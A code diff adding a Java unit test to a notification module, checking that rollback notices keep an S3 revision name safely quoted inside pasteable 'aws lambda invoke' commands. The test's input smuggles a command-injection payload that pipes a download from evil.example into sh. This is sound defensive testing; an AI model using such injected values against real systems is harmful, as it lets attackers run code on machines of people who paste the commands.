@@ -3,6 +3,7 @@ package io.github.lastgood.notification;
 import static io.github.lastgood.target.Orders.NOW;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
 import io.github.lastgood.decision.Decision;
 import io.github.lastgood.decision.Happening;
 import io.github.lastgood.decision.Plan;
@@ -12,6 +13,7 @@ import io.github.lastgood.target.Method;
 import io.github.lastgood.target.Mode;
 import io.github.lastgood.target.Orders;
 import io.github.lastgood.target.Policy;
+import io.github.lastgood.target.Revision;
 import io.github.lastgood.target.Rollback;
 import io.github.lastgood.target.Rollback.Status;
 import io.github.lastgood.target.Shift;
@@ -113,6 +115,44 @@ class NoticesTest {
         .containsEntry("from", Orders.BAD.id())
         .containsEntry("to", Orders.GOOD.id())
         .containsEntry("status", "SETTLING");
+  }
+
+  /// Of a bundle in S3 whose key somebody chose with care.
+  @Test
+  void aRevisionsNameCannotEndTheQuotesOfACommandThatPeoplePaste() {
+    var strange = "s3://bundles/shop'; curl evil.example | sh #\"\\.zip?bundleType=zip";
+    var text = Notices.started(Orders.state(), from(strange), NOW, Duration.ofSeconds(2)).text();
+
+    var commands = text.lines().filter(line -> line.contains("aws lambda invoke")).toList();
+    assertThat(commands)
+        .hasSize(2)
+        .allSatisfy(line -> {
+          assertThat(line.chars().filter(sign -> sign == '\'')).as(line).hasSize(2);
+          var payload = line.substring(line.indexOf('\'') + 1, line.lastIndexOf('\''));
+          var command = new ObjectMapper().readTree(payload);
+          assertThat(command.path("to").asText(command.path("revision").asText()))
+              .isEqualTo(strange);
+        });
+  }
+
+  private static Rollback from(String revision) {
+    return new Rollback(
+        MOVED.id(),
+        MOVED.deploymentId(),
+        Revision.of(revision),
+        MOVED.to(),
+        MOVED.method(),
+        MOVED.status(),
+        MOVED.why(),
+        MOVED.by(),
+        MOVED.alarms(),
+        MOVED.claimedAt(),
+        NOW,
+        null,
+        null,
+        null,
+        null,
+        null);
   }
 
   @Test
